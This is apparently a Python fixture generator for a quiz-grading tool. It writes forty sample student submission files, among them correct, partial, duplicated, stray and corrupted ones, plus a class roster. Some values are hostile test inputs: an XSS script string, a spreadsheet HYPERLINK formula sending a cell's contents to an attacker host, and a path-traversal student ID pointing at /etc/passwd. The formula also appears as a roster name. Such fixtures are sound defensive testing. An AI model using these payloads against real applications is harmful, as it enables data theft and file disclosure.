"""Makes a class of forty files from any key with at least thirty-three forms.

Run ``python -m tests.sample_class.make KEY FOLDER`` to write them, with the roster beside.
The same key gives the same bytes. Twenty-six files can be graded; the others are
what a teacher really finds in the folder.
"""

from __future__ import annotations

import sys
from collections.abc import Callable
from pathlib import Path
from typing import assert_never

from msgspec.structs import replace

from factquiz.assembly.form import Form, FormItem, Key, letters, option_labels
from factquiz.gradebook.keyfile import read_key
from factquiz.items.arranged import Classify, Cloze, Gap, Match, Order
from factquiz.items.choosing import Choice, MultipleResponse, OptionItem, TrueFalse
from factquiz.items.codec import encode_pretty
from factquiz.items.typed import DateAnswer, Numeric, ShortAnswer
from factquiz.responses.submission import SUBMISSION_FORMAT, RawResponse, Submission

NEEDED = 33
SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
PATH = "../../../etc/passwd"

Responder = Callable[[FormItem], RawResponse]


def right(placed: FormItem) -> RawResponse:
    """Answer an item rightly."""
    return _answer(placed, key=True)


def wrong(placed: FormItem) -> RawResponse:
    """Answer an item wrongly: with all that is wrong in it, if it takes several."""
    return _answer(placed, key=False)


def _answer(placed: FormItem, *, key: bool) -> RawResponse:
    item = placed.item
    match item:
        case Choice() | TrueFalse():
            return _labels(item, key=key)[0]
        case MultipleResponse():
            return _labels(item, key=key)
        case ShortAnswer() | Numeric() | DateAnswer():
            return _typed(item) if key else "no idea whatever, sorry"
        case Match() | Classify():
            ids = [target.id for target in item.targets]
            places = [(ids.index(prompt.key) + (not key)) % len(ids) for prompt in item.prompts]
            return tuple(letters(len(ids))[place] for place in places)
        case Order():
            shown = zip(letters(len(item.entries)), item.entries, strict=True)
            ordered = sorted(shown, key=lambda pair: pair[1].position, reverse=not key)
            return tuple(label for label, _ in ordered)
        case Cloze():
            return tuple(_filled(gap, key=key) for gap in item.gaps)
        case _:
            assert_never(item)


def _typed(item: ShortAnswer | Numeric | DateAnswer) -> str:
    if isinstance(item, ShortAnswer):
        return next(known.text for known in item.answers if known.key)
    return item.text


def _filled(gap: Gap, *, key: bool) -> str:
    if not gap.options:
        return next(known.text for known in gap.answers if known.key) if key else "no idea, sorry"
    shown = zip(letters(len(gap.options)), gap.options, strict=True)
    return next(label for label, option in shown if option.key is key)


def half(placed: FormItem) -> RawResponse:
    """Answer rightly, but only the first of several keys, or of several parts."""
    response = right(placed)
    if isinstance(response, str):
        return response
    several = isinstance(placed.item, MultipleResponse)
    return response[:1] if several else (response[0], *("" for _ in response[1:]))


def mistyped(placed: FormItem) -> RawResponse:
    """Answer rightly, but double the last letter of what is typed, where errors are forgiven."""
    response = right(placed)
    forgiving = isinstance(placed.item, ShortAnswer) and placed.item.max_edits
    return f"{response}{response[-1]}" if forgiving else response


def typing(text: str) -> Responder:
    """Answer rightly, but type this text wherever there is something to type."""
    return lambda placed: text if isinstance(placed.item, ShortAnswer) else right(placed)


def _labels(item: OptionItem, *, key: bool) -> tuple[str, ...]:
    shown = zip(option_labels(item), item.options, strict=True)
    return tuple(label for label, option in shown if option.key is key)


def submission(
    form: Form, responder: Responder = right, *, first: int | None = None, student: str = ""
) -> Submission:
    """Return a submission to a form: its first items answered in one way, the rest omitted."""
    return Submission(
        format=SUBMISSION_FORMAT,
        quiz=form.quiz,
        form=form.code,
        student=student or form.student,
        responses={placed.item.id: responder(placed) for placed in form.items[:first]},
        saved="2025-03-01T10:00:00Z",
    )


def files(key: Key) -> dict[str, bytes]:
    """Return the forty files: path inside the folder, and content."""
    forms = key.forms
    if len(forms) < NEEDED:
        raise ValueError(f"the class needs {NEEDED} forms, the key has {len(forms)}")
    made = {
        **{f"{form.student}/submission.json": one for form, one in _gradable(forms)},
        **_again(forms),
        **_foreign(forms),
        **_broken(forms),
    }
    return {path: made[path] for path in sorted(made)}


def _gradable(forms: tuple[Form, ...]) -> list[tuple[Form, bytes]]:
    made = [
        *(submission(form) for form in forms[0:6]),
        *(submission(form, first=0) for form in forms[6:9]),
        *(submission(form, first=count) for count, form in enumerate(forms[9:15], 1)),
        *(submission(form, wrong) for form in forms[15:19]),
        *(submission(form, half) for form in forms[19:22]),
        submission(forms[22], mistyped),
        _two_labels(forms[23]),
        submission(forms[24], typing(SCRIPT)),
        submission(forms[25], typing(FORMULA)),
    ]
    return list(zip(forms, map(encode_pretty, made), strict=False))


def _two_labels(form: Form) -> Submission:
    """Answer the first single choice with two labels, which the form page cannot do."""
    sent = submission(form)
    placed = next(placed for placed in form.items if isinstance(placed.item, Choice))
    return replace(sent, responses={**sent.responses, placed.item.id: ("A", "B")})


def _again(forms: tuple[Form, ...]) -> dict[str, bytes]:
    """Return what was sent twice: two harmless repetitions, and one contradiction."""
    later = replace(submission(forms[1]), saved="2025-03-02T10:00:00Z")
    twice = forms[26]
    return {
        f"{forms[0].student}/submission (1).json": encode_pretty(submission(forms[0])),
        f"resent/late/{forms[1].student}.json": encode_pretty(later),
        f"{twice.student}/a.json": encode_pretty(submission(twice)),
        f"{twice.student}/b.json": encode_pretty(submission(twice, first=1)),
    }


def _foreign(forms: tuple[Form, ...]) -> dict[str, bytes]:
    """Return well-formed files that fit neither the class nor the key."""
    strays = {
        "unknown-student": submission(forms[0], student="nobody"),
        "wrong-form": submission(forms[4], student=forms[27].student),
        "unknown-item": _with_stray_item(forms[28]),
        "path-in-id": submission(forms[0], student=PATH),
        "wrong-quiz": replace(submission(forms[29]), quiz="another-quiz"),
    }
    return {f"strays/{name}.json": encode_pretty(one) for name, one in strays.items()}


def _with_stray_item(form: Form) -> Submission:
    sent = submission(form)
    return replace(sent, responses={**sent.responses, "no-such-item": "A"})


def _broken(forms: tuple[Form, ...]) -> dict[str, bytes]:
    """Return files that are no submission at all, or no longer one."""
    whole = [encode_pretty(submission(form)) for form in forms[29:33]]
    named = encode_pretty(submission(forms[31], student="Müller"))
    return {
        "broken/truncated.json": whole[0][: len(whole[0]) // 2],
        "broken/utf-16.json": whole[1].decode().encode("utf-16"),
        "broken/latin-1.json": named.decode().encode("latin-1"),
        "broken/repeated-name.json": whole[3].replace(b'"responses"', b'"quiz": "", "responses"'),
        "broken/empty.json": b"",
    }


def roster(key: Key) -> str:
    """Return the class list as CSV; one student's name is a formula."""
    names = {form.student: f"Student {number}" for number, form in enumerate(key.forms, 1)}
    names[key.forms[25].student] = FORMULA
    lines = [f'{student},"{name.replace(chr(34), chr(34) * 2)}"' for student, name in names.items()]
    return "\n".join(["student,name", *lines, ""])


def write(made: dict[str, bytes], folder: Path) -> None:
    """Write the files into a folder."""
    for path, content in made.items():
        target = folder / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content)


def main() -> None:
    """Write the class for the key named on the command line."""
    key_file, folder = map(Path, sys.argv[1:3])
    key, _, found = read_key(key_file)
    if key is None:
        sys.exit("\n".join(map(str, found)))
    write(files(key), folder / "submissions")
    (folder / "roster.csv").write_text(roster(key), encoding="utf-8")


if __name__ == "__main__":
    main()
